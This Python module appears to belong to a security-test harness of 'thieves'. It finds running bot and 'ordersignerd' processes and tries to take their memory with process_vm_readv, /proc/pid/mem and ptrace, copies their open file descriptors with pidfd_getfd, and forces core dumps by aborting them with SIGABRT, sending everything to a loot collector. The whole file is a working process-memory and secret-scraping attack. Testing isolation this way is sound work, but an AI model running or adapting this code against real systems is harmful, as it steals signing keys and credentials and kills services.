"""Attacks the memory and the descriptors of every bot and daemon that runs, as debuggers do, and then aborts them.

Ways: vm_readv and mem read memory without stopping the process; ptrace stops it first; pidfd_getfd copies its
descriptors; core sends SIGABRT and takes the dump that the kernel writes. If the kernel refuses, the loot has the
error.
"""

from __future__ import annotations

import ctypes
import glob
import os
import resource
import select
import signal
from collections.abc import Callable, Iterator

from system.thieves.loot import take

TARGETS = (b"system.thieves.bot", b"ordersignerd")
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
WALL = 0x40000000
PIDFD_GETFD = 438  # on all architectures
DUMPED = 30.0  # seconds for the kernel to write a dump

libc = ctypes.CDLL(None, use_errno=True)


class Range(ctypes.Structure):
    """struct iovec"""

    _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))


def mappings(process: str) -> list[tuple[int, int]]:
    """Start and size of each readable range."""
    found = []
    with open(f"/proc/{process}/maps") as file:
        for line in file:
            addresses, permissions = line.split()[:2]
            start, end = (int(address, 16) for address in addresses.split("-"))
            if permissions.startswith("r") and "[v" not in line:  # not the kernel's: [vvar], [vsyscall]
                found.append((start, end - start))
    return found


def ranges(process: int) -> list[tuple[int, int]]:
    """As far as they can be known: where maps is closed, a thief tries the addresses of a program like it, its own."""
    try:
        return mappings(str(process))
    except OSError:
        return mappings("self")


def checked(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def vm_readv(process: int) -> Iterator[bytes]:
    for start, size in ranges(process):
        buffer = ctypes.create_string_buffer(size)
        here, there = Range(ctypes.addressof(buffer), size), Range(start, size)
        read = libc.process_vm_readv(process, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        yield buffer.raw[: checked(read)]


def mem(process: int) -> Iterator[bytes]:
    with open(f"/proc/{process}/mem", "rb", buffering=0) as memory:
        for start, size in ranges(process):
            memory.seek(start)
            yield memory.read(size) or b""


def ptrace(process: int) -> Iterator[bytes]:
    checked(libc.ptrace(PTRACE_ATTACH, process, None, None))
    try:
        os.waitpid(process, WALL)
        yield from mem(process)
    finally:
        libc.ptrace(PTRACE_DETACH, process, None, None)


def pidfd_getfd(process: int) -> Iterator[bytes]:
    pidfd = os.pidfd_open(process)
    try:
        for number in range(64):
            try:
                copied = checked(libc.syscall(PIDFD_GETFD, pidfd, number, 0))
            except OSError as error:
                if number == 0:
                    raise
                yield str(error).encode()
                continue
            try:
                yield os.pread(copied, 1 << 20, 0)
            except OSError as error:  # not a file
                yield str(error).encode()
            finally:
                os.close(copied)
    finally:
        os.close(pidfd)


def core(process: int) -> Iterator[bytes]:
    """The dump goes into the working directory of the bot, which is its home."""
    pidfd = os.pidfd_open(process)
    try:
        os.kill(process, signal.SIGABRT)
        select.select([pidfd], [], [], DUMPED)  # until it has ended
    finally:
        os.close(pidfd)
    for path in glob.glob(os.path.expanduser("~/core*")):
        with open(path, "rb") as file:
            yield file.read()


def targets() -> Iterator[tuple[int, str]]:
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{name}/cmdline", "rb") as file:
                line = file.read()
        except OSError:  # it has ended
            continue
        for target in TARGETS:
            if target in line and int(name) != os.getpid():
                yield int(name), target.decode()


def main() -> None:
    ways: list[Callable[[int], Iterator[bytes]]] = [vm_readv, mem, ptrace, pidfd_getfd, core]
    for process, name in targets():
        try:
            resource.prlimit(process, resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (OSError, ValueError) as error:
            take("core", f"{name} {process}: prlimit: {error}".encode())
        for way in ways:
            try:
                for content in way(process):
                    take(way.__name__, f"{name} {process}: ".encode() + content)
            except OSError as error:
                take(way.__name__, f"{name} {process}: {error}".encode())


if __name__ == "__main__":
    main()
